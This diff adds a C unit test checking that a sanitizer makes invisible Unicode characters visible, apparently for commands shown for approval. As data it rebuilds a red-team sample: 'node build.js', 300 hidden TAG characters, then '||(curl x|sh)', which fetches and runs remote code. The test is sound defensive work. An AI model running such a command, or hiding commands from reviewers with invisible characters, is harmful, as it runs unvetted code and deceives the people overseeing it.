@@ -229,6 +229,96 @@ test_sanitize(void **state)
 	}
 }
 
+static size_t
+utf8_put(char *d, unsigned long cp)
+{
+	if (cp < 0x800) {
+		d[0] = (char)(0xc0 | cp >> 6);
+		d[1] = (char)(0x80 | (cp & 0x3f));
+		return 2;
+	}
+	if (cp < 0x10000) {
+		d[0] = (char)(0xe0 | cp >> 12);
+		d[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
+		d[2] = (char)(0x80 | (cp & 0x3f));
+		return 3;
+	}
+	d[0] = (char)(0xf0 | cp >> 18);
+	d[1] = (char)(0x80 | ((cp >> 12) & 0x3f));
+	d[2] = (char)(0x80 | ((cp >> 6) & 0x3f));
+	d[3] = (char)(0x80 | (cp & 0x3f));
+	return 4;
+}
+
+/* Escaped by property, not by a hand list (red team: 300 TAG characters hid a
+ * payload; 4,160 format and zero-width code points passed). The ranges are the
+ * red team's list of what passed, and the Unicode properties named in sanitize.c. */
+static void
+test_sanitize_invisible(void **state)
+{
+	static const unsigned long ranges[][2] = {
+		/* what passed before: Cf, variation selectors, TAG and other ignorables */
+		{ 0x0600, 0x0605 }, { 0x06dd, 0x06dd }, { 0x070f, 0x070f }, { 0x0890, 0x0891 },
+		{ 0x08e2, 0x08e2 }, { 0x180b, 0x180d }, { 0x180f, 0x180f }, { 0x206a, 0x206f },
+		{ 0xfe00, 0xfe0f }, { 0xfff9, 0xfffb }, { 0x110bd, 0x110bd }, { 0x110cd, 0x110cd },
+		{ 0x13430, 0x13438 }, { 0x1bca0, 0x1bca3 }, { 0x1d173, 0x1d17a },
+		{ 0xe0000, 0xe0fff },
+		/* Default_Ignorable_Code_Point, controls, separators, private use, nonchars */
+		{ 0x0080, 0x00a0 }, { 0x00ad, 0x00ad }, { 0x034f, 0x034f }, { 0x061c, 0x061c },
+		{ 0x115f, 0x1160 }, { 0x1680, 0x1680 }, { 0x17b4, 0x17b5 }, { 0x180e, 0x180e },
+		{ 0x2000, 0x200f }, { 0x2028, 0x202f }, { 0x205f, 0x2069 }, { 0x2800, 0x2800 },
+		{ 0x3000, 0x3000 }, { 0x3164, 0x3164 }, { 0xe000, 0xf8ff }, { 0xfdd0, 0xfdef },
+		{ 0xfeff, 0xfeff }, { 0xffa0, 0xffa0 }, { 0xfff0, 0xfff8 }, { 0xfffe, 0xffff },
+		{ 0x1fffe, 0x1ffff }, { 0xf0000, 0x10ffff },
+	};
+	char in[16], out[64], want[16];
+	unsigned long cp;
+	size_t i, n, count = 0;
+
+	(void)state;
+	for (i = 0; i < sizeof(ranges) / sizeof(ranges[0]); i++)
+		for (cp = ranges[i][0]; cp <= ranges[i][1]; cp++, count++) {
+			in[0] = 'A';
+			n = 1 + utf8_put(in + 1, cp);
+			memcpy(in + n, "B", 2);
+			ns_sanitize(out, sizeof(out), in);
+			snprintf(want, sizeof(want), "A\\u%04lxB", cp);
+			if (strcmp(out, want) != 0)
+				fail_msg("U+%04lX shown as \"%s\", not escaped", cp, out);
+			assert_int_equal(ns_sanitized_len(in), strlen(want));
+		}
+	assert_true(count > 4160 + 65536);
+	/* ordinary text shows as itself: accents (also combining), CJK, emoji, ZWJ-free */
+	{
+		const char *plain = "caf\xc3\xa9 e\xcc\x81 \xe4\xb8\xad\xe6\x96\x87 "
+		    "\xf0\x9f\x98\x80 \xd0\x9f\xd1\x80\xd0\xb8 \xce\xb1\xce\xb2 \xe2\x82\xac";
+		ns_sanitize(out, sizeof(out), plain);
+		assert_string_equal(out, plain);
+		assert_int_equal(ns_sanitized_len(plain), strlen(plain));
+	}
+	/* red team: "node build.js", 300 TAG characters, then the payload */
+	{
+		char script[1300], shown[600];
+		size_t o = 13;
+		memcpy(script, "node build.js", 13);
+		for (i = 0; i < 300; i++)
+			o += utf8_put(script + o, 0xe0020 + i % 0x5f);
+		memcpy(script + o, "||(curl x|sh)", 14);
+		ns_sanitize(shown, sizeof(shown), script);
+		assert_string_equal(shown, "node build.js<300 invisible \\ue0020-\\ue007e>||(curl x|sh)");
+		assert_int_equal(ns_sanitized_len(script), strlen(shown));
+	}
+	/* a run of one character is still counted; fewer than 4 are escaped one by one */
+	ns_sanitize(out, sizeof(out), "a\xf3\xa0\x80\xa0\xf3\xa0\x80\xa0\xf3\xa0\x80\xa0"
+	    "\xf3\xa0\x80\xa0" "b");
+	assert_string_equal(out, "a<4 x \\ue0020>b");
+	ns_sanitize(out, sizeof(out), "a\xe2\x80\xae\xe2\x81\xa6\xc2\x85" "b");
+	assert_string_equal(out, "a\\u202e\\u2066\\u0085b");
+	/* the length the check compares with the summary's quote bound */
+	assert_int_equal(ns_sanitized_len("a\nb        c"), strlen("a\\nb<8 spaces>c"));
+	assert_int_equal(ns_sanitized_len(NULL), 0);
+}
+
 int
 main(void)
 {
@@ -239,6 +329,7 @@ main(void)
 		cmocka_unit_test(test_token_store),
 		cmocka_unit_test(test_approver),
 		cmocka_unit_test(test_sanitize),
+		cmocka_unit_test(test_sanitize_invisible),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
